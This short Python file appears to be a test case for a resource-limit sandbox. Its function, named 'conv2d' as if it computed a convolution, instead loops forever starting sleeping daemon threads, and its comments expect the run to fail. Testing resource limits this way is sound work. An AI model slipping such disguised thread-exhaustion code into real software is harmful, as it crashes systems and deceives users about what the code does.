# tries: starts threads for ever
# outcome: an exception, or ended; failed
import threading
import time


def conv2d(x, w, b, stride=1, padding="valid"):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
